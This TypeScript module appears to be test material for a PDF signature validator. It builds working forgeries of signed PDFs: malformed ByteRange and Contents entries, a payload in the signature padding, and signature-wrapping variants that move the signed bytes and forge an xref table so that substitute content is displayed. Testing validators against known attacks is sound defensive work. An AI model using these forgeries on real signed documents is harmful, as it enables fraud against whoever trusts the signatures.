import { type Bytes, concat, latin1, toHex } from "../../../src/kit/bytes.ts";
import { latin1Bytes } from "../craft.ts";
import type { Attack } from "./attack.ts";
import { type SignedFile, stream } from "./signed-file.ts";

/** What an attacker wants seen instead of the page. */
export const PICTURE = "0 0 500 700 re f";

const RANGE = /\/ByteRange\s*\[[^\]]*\]\s*/;
const CONTENTS = /\/Contents\s*<[0-9a-fA-F]{100,}>/;

/** Writes over a place of the file without moving anything. */
const inPlace = (file: SignedFile, from: RegExp, write: (found: string) => string): Bytes => {
  const text = latin1(file.pdf);
  const found = from.exec(text);
  if (found === null) throw new Error(`${from} is not in the file`);
  const put = write(found[0]);
  if (put.length !== found[0].length) throw new Error("lengths differ");
  return latin1Bytes(text.slice(0, found.index) + put + text.slice(found.index + found[0].length));
};

const forgery = (name: string, make: Attack["make"]): Attack => ({ family: "universal forgery", name, make });

const range = (name: string, written: string): Attack =>
  forgery(name, (file) => inPlace(file, RANGE, (found) => written.padEnd(found.length)));

const contents = (name: string, write: (digits: string) => string): Attack =>
  forgery(name, (file) =>
    inPlace(file, CONTENTS, (found) => {
      const digits = /<([0-9a-fA-F]+)>/.exec(found)?.[1] ?? "";
      return found.replace(digits, write(digits).padEnd(digits.length, "0"));
    }),
  );

/** The whole entry written anew, spaces behind it. */
const entry = (name: string, written: string): Attack =>
  forgery(name, (file) => inPlace(file, CONTENTS, (found) => written.padEnd(found.length)));

/** USF of the first report: both entries, each without key, without value, null, zero, negative, and what else readers took. */
export const FORGERIES: readonly Attack[] = [
  forgery("no ByteRange", (file) => inPlace(file, /\/ByteRange/, () => "/ByteRagne")),
  range("a ByteRange without a value", "/ByteRange"),
  range("a null ByteRange", "/ByteRange null"),
  range("an empty ByteRange", "/ByteRange []"),
  range("a ByteRange of zeros", "/ByteRange [0 0 0 0]"),
  range("a ByteRange of a zero byte", "/ByteRange [\0]"),
  range("a negative ByteRange", "/ByteRange [0 -1 -1 10]"),
  range("a ByteRange that starts before the file", "/ByteRange [-1 90 99 999]"),
  range("a ByteRange that starts later", "/ByteRange [9 90 99 999]"),
  range("an overlapping ByteRange", "/ByteRange [0 900 100 900]"),
  range("a ByteRange beyond the file", "/ByteRange [0 10 20 99999999]"),
  range("a ByteRange of two numbers", "/ByteRange [0 99]"),
  range("a ByteRange of six numbers", "/ByteRange [0 9 12 9 30 9]"),
  range("a ByteRange of fractions", "/ByteRange [0 9.5 12 9]"),
  range("a ByteRange by reference", "/ByteRange 4 0 R"),
  forgery("no Contents", (file) =>
    inPlace(file, /\/Contents\s*</, (found) => found.replace("Contents", "Contenst")),
  ),
  entry("Contents without a value", "/Contents"),
  entry("null Contents", "/Contents null"),
  entry("Contents by reference", "/Contents 4 0 R"),
  entry("Contents of one zero byte, the gap left open", "/Contents <00>"),
  entry("Contents as a literal string", "/Contents (0)"),
  contents("Contents of zeros", () => "00"),
  contents("Contents of one byte", () => "30"),
  contents("Contents of a bare sequence", () => "3000"),
  contents(
    "a payload in the padding",
    (digits) => `${digits.slice(0, -40)}${toHex(latin1Bytes("hidden payload"))}`,
  ),
];

type Parts = {
  readonly first: string;
  readonly digits: string;
  readonly second: string;
  readonly gapEnd: number;
};

function partsOf({ pdf }: SignedFile): Parts {
  const text = latin1(pdf);
  const [, gapStart = 0, gapEnd = 0, length = 0] = [...(RANGE.exec(text)?.[0] ?? "").matchAll(/\d+/g)].map(
    Number,
  );
  const gap = text.slice(gapStart + 1, gapEnd - 1);
  const size = 4 + Number.parseInt(gap.slice(4, 8), 16);
  if (!gap.startsWith("3082")) throw new Error("a signature value of another length form");
  return {
    first: text.slice(0, gapStart),
    digits: gap.slice(0, size * 2),
    second: text.slice(gapEnd, gapEnd + length),
    gapEnd,
  };
}

/** The gap cut to the signature value, a second ByteRange in the unsigned room behind it, the signed rest moved to the end. */
function wrapped(file: SignedFile, { withTable }: { readonly withTable: boolean }): Bytes {
  const { first, digits, second } = partsOf(file);
  const forged = `${file.contents} 0 obj\n${stream(PICTURE)}\nendobj\n`;
  const named = Number(/startxref\s+(\d+)/.exec(second)?.[1] ?? 0);
  const build = (moved: number): string => {
    const head = `${first}<${digits}> /ByteRange [0 ${first.length} ${String(moved).padStart(9)} ${second.length}] >>\nendobj\n`;
    const body = head + forged;
    if (!withTable) return body;
    const table = `xref\n${file.contents} 1\n${String(head.length).padStart(10, "0")} 00000 n \ntrailer\n<< /Size 99 /Root ${file.catalog} 0 R >>\n`;
    return body.padEnd(Math.max(body.length, named), "\n") + table;
  };
  const moved = build(0).length;
  return latin1Bytes(build(moved) + second);
}

const wrapping = (name: string, make: Attack["make"]): Attack => ({
  family: "signature wrapping",
  name,
  make,
});

/** SWA of the first report: the second signed part moved, with and without a forged table where its startxref points. */
export const WRAPPINGS: readonly Attack[] = [
  wrapping("the signed rest moved behind new objects, its ByteRange corrected", (file) => {
    const { first, digits, second, gapEnd } = partsOf(file);
    const between = `\n${file.contents} 0 obj\n${stream(PICTURE)}\nendobj\n`;
    const to = `/ByteRange [0 ${first.length} ${gapEnd + between.length} ${second.length}]`;
    const text = latin1(inPlace(file, RANGE, (found) => to.padEnd(found.length)));
    if (digits.length === 0) throw new Error("nothing is signed");
    return latin1Bytes(text.slice(0, gapEnd) + between + text.slice(gapEnd));
  }),
  wrapping("a second ByteRange in the padding, the signed rest moved", (file) =>
    wrapped(file, { withTable: false }),
  ),
  wrapping("the same with a forged table where startxref points", (file) =>
    wrapped(file, { withTable: true }),
  ),
  wrapping("the gap widened by a space", (file) => {
    const at = latin1(file.pdf).search(CONTENTS) + 10;
    return concat(file.pdf.subarray(0, at), latin1Bytes(" "), file.pdf.subarray(at));
  }),
];
